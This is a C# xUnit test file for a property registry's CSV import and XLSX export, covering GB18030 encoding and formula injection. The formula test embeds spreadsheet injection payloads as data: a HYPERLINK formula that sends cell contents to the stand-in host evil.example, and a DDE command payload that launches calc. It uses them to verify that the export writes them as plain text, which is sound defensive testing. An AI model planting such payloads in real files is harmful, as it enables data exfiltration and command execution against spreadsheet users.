using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging.Abstractions;
using PropertyHub.Features.Accounts;
using PropertyHub.Features.Registry.Import;
using static PropertyHub.Tests.Features.Registry.Import.ImportFiles;

namespace PropertyHub.Tests.Features.Registry.Import;

/// <summary>The corpus carried through to the database and back out through the export.</summary>
public sealed class ImportCorpusStoreTests(AppFactory factory) : IClassFixture<AppFactory>
{
    private readonly RegistryImportParser parser = new(NullLogger<RegistryImportParser>.Instance);

    [Fact]
    public async Task Commit_Gb18030AfterAnAsciiPrefix_StoresTheChineseNamesAndNoReplacementCharacter()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var rows = Enumerable.Range(1, 3000)
            .Select(i => new[] { "G", "Block G", i.ToString(System.Globalization.CultureInfo.InvariantCulture), "1", "88.50", "Residential", "", "", "", "" })
            .Append(["G", "Block G", "2001", "1", "88.50", "Residential", "Owner", "Person", "欧阳娜娜", "13900009901"])
            .ToList();
        string[] header = Header[..10];
        var file = Csv(rows, header, Encoding.GetEncoding(54936));
        Assert.True(file.ToArray().Take(64 * 1024).All(b => b < 0x80));

        var result = await CommitAsync(file, "gb18030.csv");

        Assert.True(result.Succeeded, result.Message?.Key);
        await using var db = await factory.CreateDbContextAsync();
        var stored = await db.Occupants.Where(o => o.Unit!.Building!.Code == "G").Select(o => o.Name).SingleAsync();
        Assert.Equal("欧阳娜娜", stored);
        Assert.False(await db.Occupants.AnyAsync(o => o.Name.Contains("\uFFFD")));
        Assert.False(await db.Buildings.AnyAsync(b => b.Name.Contains("\uFFFD")));
    }

    [Fact]
    public async Task Export_FormulaCellsStoredAsText_AreWrittenAsStringsNoSpreadsheetEvaluates()
    {
        var hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
        string[] first = [.. Owner("H", "101", hyperlink, "13900009911")];
        first[ImportColumn.VipNotes - ImportColumn.BuildingCode] = "+cmd|' /C calc'!A0";
        var result = await CommitAsync(Csv([first, Owner("H", "102", "@SUM(1+1)", "13900009912"), Owner("H", "103", "-2+3", "13900009913")]), "formula.csv");
        Assert.True(result.Succeeded, result.Message?.Key);
        await using (var db = await factory.CreateDbContextAsync())
            Assert.Equal(["-2+3", hyperlink, "@SUM(1+1)"], (await db.Occupants.Where(o => o.Unit!.Building!.Code == "H").Select(o => o.Name).ToListAsync()).Order(StringComparer.Ordinal));

        var client = await factory.ClientForRoleAsync(Roles.Manager);
        var bytes = await client.GetByteArrayAsync("/registry/export.xlsx");

        var cells = XlsxCells.Read(bytes);
        Assert.DoesNotContain(cells, c => c.Formula);
        foreach (var text in new[] { hyperlink, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3" })
            XlsxCells.AssertPlainText(cells, text);
        var parsed = await parser.ParseAsync(new MemoryStream(bytes), "export.xlsx");
        Assert.Contains(parsed.Rows, r => r[ImportColumn.OccupantName] == hyperlink && r[ImportColumn.VipNotes] == "+cmd|' /C calc'!A0");
    }

    private async Task<ImportCommitResult> CommitAsync(Stream file, string name)
    {
        var parsed = await parser.ParseAsync(file, name);
        Assert.Null(parsed.FileError);
        ImportCommitResult? result = null;
        await factory.AsAsync(PropertyHub.Features.Accounts.Roles.Clerk, async sp =>
        {
            await using var db = await factory.CreateDbContextAsync();
            var estateId = await db.Estates.OrderBy(e => e.Id).Select(e => e.Id).FirstAsync();
            var preview = await sp.GetRequiredService<RegistryImportValidator>().ValidateAsync(estateId, parsed.Rows);
            Assert.Empty(preview.Errors);
            result = await sp.GetRequiredService<RegistryImporter>().CommitAsync(preview);
        });
        return result!;
    }
}
